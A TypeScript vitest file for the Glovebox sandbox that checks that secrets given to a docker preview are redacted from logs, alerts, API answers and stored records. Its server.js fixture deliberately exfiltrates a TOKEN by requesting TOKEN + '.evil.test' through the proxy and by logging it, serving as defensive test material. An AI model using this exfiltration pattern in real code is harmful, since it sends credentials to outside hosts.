import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import type { PreviewRow } from "../../src/operations/previews-contract.ts";
import { useGlovebox } from "../helpers/open-glovebox.ts";
import { serveGlovebox } from "../helpers/served-glovebox.ts";
import { testImages } from "../helpers/test-images.ts";
import { until } from "../helpers/until.ts";

const root = mkdtempSync(path.join(os.tmpdir(), "glovebox-test-preview-secrets-"));
afterAll(() => rmSync(root, { recursive: true, force: true }));

/** Different in each run of the tests, so that leftovers of another run are not mistaken for a leak in this one. */
const value = `hunter2${Math.random().toString(36).slice(2, 12)}`;
const code = `
const http = require("node:http"), { TOKEN, HTTP_PROXY, PORT } = process.env;
console.log("started with", TOKEN);
console.error(new TypeError("no use for " + TOKEN));
const { hostname, port } = new URL(HTTP_PROXY);
http.get({ hostname, port, path: "http://" + TOKEN + ".evil.test/" }, (answer) => answer.resume()).on("error", () => undefined);
http.createServer((request, response) => {
  if (request.url === "/die") throw new Error("died of " + TOKEN);
  response.end(String(TOKEN.length));
}).listen(PORT);`;

/** All files below a folder, as text. */
function textBelow(folder: string): string {
  const files = readdirSync(folder, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
  return files.map((file) => readFileSync(path.join(file.parentPath, file.name), "latin1")).join("\n");
}

describe("secrets of a preview on docker", () => {
  useGlovebox("docker");

  it("reach its command and not its installation, and show in no log, alert, answer or record", async () => {
    const [home, project] = [mkdtempSync(path.join(root, "home-")), mkdtempSync(path.join(root, "project-"))];
    writeFileSync(path.join(project, "server.js"), code);
    const settings = { SECRET_OF_TEST: value, GLOVEBOX_SECRETS: "SECRET_OF_TEST", GLOVEBOX_PROJECT_ROOTS: project };
    const image = { GLOVEBOX_IMAGE_JAVASCRIPT: testImages.javascript };
    await using server = await serveGlovebox({ ...settings, ...image, GLOVEBOX_LOG_LEVEL: "debug" }, home, "docker");
    let notice = "";
    server.child.stderr?.on("data", (chunk) => (notice += String(chunk)));
    const request = {
      project_path: project,
      command: "node server.js",
      setup_command: 'echo "installed with ${TOKEN:-nothing}"',
      secrets: { TOKEN: "SECRET_OF_TEST" },
      network: ["example.test"],
      wait_seconds: 120,
    };
    const refused = await server.call("POST", "/api/sandbox/preview", { ...request, environment: { TOKEN: "x" } });
    expect(refused).toMatchObject({ status: 400, body: { context: { field: "secrets.TOKEN" } } });
    const started = await server.call("POST", "/api/sandbox/preview", request);
    const { container_id: id, direct_url: direct = "", ...row } = started.body as PreviewRow;
    expect(row, JSON.stringify(row)).toMatchObject({ status: "running" });
    expect(await (await fetch(direct)).text()).toBe(String(value.length));
    const get = async (route: string): Promise<string> => JSON.stringify((await server.call("GET", route)).body);
    const alerts = (): Promise<string> => get(`/api/alerts?sandbox_id=${id}`);
    await until(async () => (await alerts()).includes(".evil.test"));
    await until(async () => (await alerts()).includes("no use for"));
    await fetch(`${direct}die`).catch(() => undefined);
    await until(async () => (await get(`/api/sandbox/preview/${id}`)).includes('"status":"error"'));
    const status = await get(`/api/sandbox/preview/${id}`);
    for (const text of ["installed with nothing", "started with [redacted:SECRET_OF_TEST]", "value of secret SECRET"])
      expect(status).toContain(text);
    const logs = await get(`/api/sandbox/${id}/logs`);
    expect(logs).toContain("died of [redacted:SECRET_OF_TEST]");
    for (const text of ["no use for [redacted:SECRET_OF_TEST]", "[redacted:SECRET_OF_TEST].evil.test"])
      expect(await alerts()).toContain(text);
    const shown = [JSON.stringify(row), status, logs, await alerts(), await get("/api/sandbox?state=ended")];
    server.child.kill("SIGTERM");
    expect(await server.ended).toBe(0);
    const records = textBelow(path.join(home, "state"));
    expect(records).toContain(id);
    for (const text of [...shown, notice, records]) expect(text).not.toContain(value);
  });
});
